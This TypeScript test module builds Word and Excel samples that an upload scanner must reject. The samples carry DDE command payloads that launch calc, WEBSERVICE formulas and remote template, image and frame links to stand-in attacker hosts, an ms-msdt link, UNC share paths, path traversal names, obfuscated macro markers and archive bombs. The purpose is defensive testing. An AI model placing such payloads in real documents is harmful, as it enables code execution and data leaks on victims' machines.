import { archive, officeFile, officeMain, officeParts, type Part } from './archives.ts'
import { bytes, oldOffice, type Sample } from './sample-files.ts'

const damaged = /damaged|cut off/
const inside = /another file inside/
const unpacks = /unpacks to far more/
const macros = /contains macros/
const odd = /no part of a document/
const linked = /is linked/
const password = /password/
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const link = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="r9" Type="${relation}/${type}" Target="${target}" TargetMode="${mode}"/>`
const part = (name: string, content: string | Buffer = 'x'): Part => ({ name, content })
const parts: [string, Part, RegExp][] = [
  ['vba', part('word/vbaProject.bin'), macros],
  ['vba data', part('word/vbaData.xml'), macros],
  ['macro sheet', part('xl/macrosheets/sheet1.xml'), macros],
  ['activex', part('word/activeX/activeX1.xml'), macros],
  ['ole', part('word/embeddings/oleObject1.bin'), inside],
  ['embedded sheet', part('word/embeddings/Microsoft_Excel_Sheet.xlsx'), inside],
  ['exe', part('word/media/run.exe'), odd],
  ['script', part('word/run.js'), odd],
  ['nested zip', part('word/media/more.zip'), odd],
  ['nested rar', part('xl/more.rar'), odd],
  ['nested docx', part('word/other.docx'), odd],
  ['page', part('word/afchunk.html'), odd],
  ['odd binary', part('xl/some.bin'), odd],
  [
    'dde',
    part(
      'xl/externalLinks/externalLink1.xml',
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    ),
    linked,
  ],
  ['ole link', part('xl/externalLinks/externalLink2.xml', '<x:externalLink><x:oleLink/></x:externalLink>'), linked],
  ['path out', part('../../evil.xml'), damaged],
  ['root path', part('/etc/evil.xml'), damaged],
  ['backslash', part('word\\evil.xml'), damaged],
]
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map(run).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const sheet = (cell: string) => `<worksheet><sheetData><row><c>${cell}</c></row></sheetData></worksheet>`
const outside = /reads another file or program/
const reaches = /reaches outside/
const starts = /starts a program/
/** What must not be in a part of these names, which say nothing of it. */
const contents: [name: string, xml: string, why: RegExp][] = [
  ['picture field', field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" '), /INCLUDEPICTURE/],
  ['picture field in pieces', field(' INCL', 'UDE', 'PICTURE "file:///c:/a.png"'), outside],
  ['text field', `<w:p>${field('QUOTE "x"')}${field('includetext "c:/a.docx"')}</w:p>`, /INCLUDETEXT/],
  ['field in one', '<w:p><w:fldSimple w:instr=" IncludePicture a.png"/></w:p>', outside],
  ['dde field', field('DDEAUTO c:\\\\cmd.exe "/k calc"'), outside],
  ['web formula', sheet('<f>1+_xlfn.WEBSERVICE("https://evil.example")</f>'), /WEBSERVICE/],
  ['spelt web formula', sheet('<f>WEB&#83;ERV<!-- x -->ICE(A1)</f>'), reaches],
  ['web formula in CDATA', sheet('<x:f><![CDATA[WEBSERVICE(A1)]]></x:f>'), reaches],
  [
    'web formula by name',
    '<workbook><definedNames><definedName name="a">RTD("a")</definedName></definedNames></workbook>',
    reaches,
  ],
  ['dde formula', sheet(`<f>cmd|'/c calc'!A0</f>`), starts],
  ['connections', '<connections><connection id="1"/></connections>', /\(connections\)/],
  ['query', '<x:queryTable/>', /a query/],
  ['other book', '<externalLink><externalBook/></externalLink>', /linked to another workbook/],
]
const kinds = ['docx', 'xlsx'] as const
/** Word and Excel files that must not pass. */
export const hostileOffice: Sample[] = kinds.flatMap((kind) => {
  const of = (name: string, content: Buffer, why: RegExp): Sample => ({ name: `${name}.${kind}`, bytes: content, why })
  const plain = officeParts(kind)
  const macroMain = officeMain[kind]
    .replace('openxmlformats-officedocument', 'ms-word')
    .replace('+xml', '.macroEnabled+xml')
  return [
    ...parts.map(([name, one, why]) => of(name, officeFile(kind, { parts: [one] }), why)),
    ...contents.map(([name, xml, why]) =>
      of(name, officeFile(kind, { parts: [part('customXml/item1.xml', xml)] }), why),
    ),
    of(
      'link behind a sign',
      officeFile(kind, {
        links: `<Relationship Id="a>b" Type="${relation}/oleObject" Target="https://a.example/" TargetMode="External"/>`,
      }),
      linked,
    ),
    of(
      'link behind spelt quotes',
      officeFile(kind, {
        links: `<Relationship Id="&#34; Type=&#34;x/hyperlink&#34; " Type="${relation}/oleObject" Target="a.bin"/>`,
      }),
      linked,
    ),
    of('links without an end', officeFile(kind, { links: '<Relationship '.repeat(9) }), damaged),
    of('macro type', officeFile(kind, { main: macroMain }), macros),
    of(
      'spelt macro type',
      officeFile(kind, {
        types: '<Override PartName="/v.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
      }),
      macros,
    ),
    of(
      'template by link',
      officeFile(kind, { links: link('attachedTemplate', 'https://evil.example/t.dotm') }),
      /takes its template from another file/,
    ),
    of(
      'picture from a share',
      officeFile(kind, { links: link('image', String.raw`\\evil\share\a.png`) }),
      /image: \\\\evil/,
    ),
    of('picture from a folder', officeFile(kind, { links: link('image', 'file:///c:/a.png') }), /image: file:/),
    of('picture from the web', officeFile(kind, { links: link('image', 'https://evil.example/a.png') }), linked),
    of('link to a share', officeFile(kind, { links: link('hyperlink', String.raw`\\evil\share\a.doc`) }), linked),
    of('link to a file', officeFile(kind, { links: link('hyperlink', 'file:///c:/a.doc') }), linked),
    of(
      'strange encoding',
      officeFile(kind, { parts: [part('docProps/a.xml', '<?xml version="1.0" encoding="utf-7"?><a/>')] }),
      damaged,
    ),
    of('deep', officeFile(kind, { parts: [part('docProps/a.xml', '<a>'.repeat(100_000))] }), damaged),
    of('object by link', officeFile(kind, { links: link('oleObject', 'file:///c:/evil.exe') }), linked),
    of('frame', officeFile(kind, { links: link('frame', 'https://evil.example') }), linked),
    of('part by link', officeFile(kind, { links: link('aFChunk', 'evil.html', 'Internal') }), linked),
    of('odd scheme', officeFile(kind, { links: link('hyperlink', 'ms-msdt:/id PCWDiagnostic') }), linked),
    of('mhtml scheme', officeFile(kind, { links: link('image', 'mhtml:https://evil.example!x') }), linked),
    of('no types', officeFile(kind, { without: '[Content_Types].xml' }), /is an archive/),
    of('other type', officeFile(kind, { main: 'application/vnd.oasis.opendocument.text' }), /is an archive/),
    of(
      'entities',
      archive([{ name: '[Content_Types].xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><Types/>' }]),
      damaged,
    ),
    of('locked', oldOffice(true), password),
    of('locked part', archive([...plain, { ...part('word/secret.xml'), flags: 0x0801 }]), password),
    of('strongly locked part', archive([...plain, { ...part('word/secret.xml'), flags: 0x0841 }]), password),
    of('bomb', archive([...plain, part('word/big.xml', Buffer.alloc(30 << 20))]), unpacks),
    of('bomb by its word', archive([...plain, { ...part('word/big.xml'), claims: { size: 4_000_000_000 } }]), unpacks),
    of(
      'bomb of many',
      archive([...plain, ...Array.from({ length: 5200 }, (_, n) => part(`word/p${n}.xml`, ''))]),
      /too many parts/,
    ),
    of(
      'bomb of shared bytes',
      archive([
        ...plain,
        part('word/a.xml', Buffer.alloc(3 << 20)),
        { ...part('word/b.xml', Buffer.alloc(3 << 20)), sharesBytes: true },
      ]),
      unpacks,
    ),
    of(
      'hidden length',
      archive([...plain, { ...part('word/a.xml', Buffer.alloc(9000, 'ab')), claims: { size: 3 }, stored: true }]),
      damaged,
    ),
    of('odd packing', archive([...plain, { ...part('word/a.xml'), method: 99 }]), damaged),
    of('twice', archive([...plain, part('[content_types].xml')]), damaged),
    of('cut', officeFile(kind).subarray(0, 900), damaged),
    of('behind', archive(plain, { behind: 'x'.repeat(70_000) }), damaged),
    of('split', Buffer.concat([bytes('504b0506'), Buffer.alloc(600, 0x41)]), /archive/),
  ]
})
